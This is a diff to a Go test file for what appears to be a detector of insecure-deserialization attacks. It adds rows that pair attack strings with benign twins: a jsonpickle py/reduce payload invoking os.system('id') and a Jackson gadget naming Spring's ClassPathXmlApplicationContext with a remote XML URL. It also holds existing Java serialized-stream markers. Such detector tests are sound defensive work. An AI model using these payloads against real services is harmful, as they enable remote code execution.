@@ -14,6 +14,8 @@ func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
 func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }
 
 var rows = []languagetest.Row{
+	{Shows: "what Python's jsonpickle calls", Attack: `{"py/reduce":[{"py/type":"os.system"},{"py/tuple":["id"]}]}`, Twin: `{"py/state":[1,2]}`},
+	{Shows: "a class named in an array, as Jackson does", Attack: `["org.springframework.context.support.ClassPathXmlApplicationContext","http://x.example/a.xml"]`, Twin: `["org.example.app","http://x.example/a.xml"]`},
 	{Shows: "Java stream in base64", Attack: "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", Twin: "r00ABXNyABFqYXZh"},
 	{Shows: "Java stream", Attack: "\xac\xed\x00\x05sr\x00\x11java.util.HashMap", Twin: "\xac\xee\x00\x05"},
 	{Shows: "Java stream in hex", Attack: "aced00057372001164617461", Twin: "aced00010203040506"},
